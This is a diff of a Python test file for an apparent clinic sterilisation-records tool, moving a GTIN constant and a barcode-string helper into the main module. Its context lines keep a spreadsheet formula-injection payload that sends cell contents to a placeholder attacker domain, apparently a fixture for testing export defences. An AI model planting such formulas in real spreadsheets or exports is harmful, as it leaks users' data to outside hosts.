@@ -15,9 +15,9 @@ import time
 from pathlib import Path
 
 import pytest
+from clinic import GTIN, hri
 from conftest import Cli
 
-GTIN = "09506000134352"
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 SPEC_TYPES = [
     "sessions", "refusals", "cycles", "bis", "air_removal_tests", "room_cleans",
@@ -28,10 +28,6 @@ SQLITE_ONLY = pytest.mark.parametrize("backend", ["sqlite"])
 POSTGRESQL_ONLY = pytest.mark.parametrize(
     "backend", [pytest.param("postgresql", marks=pytest.mark.pg)]
 )
-
-
-def hri(lot: str, serial: str, expiry: str = "271231") -> str:
-    return f"(01){GTIN}(17){expiry}(10){lot}(21){serial}"
 
 
 def setup_room(cli: Cli) -> None:
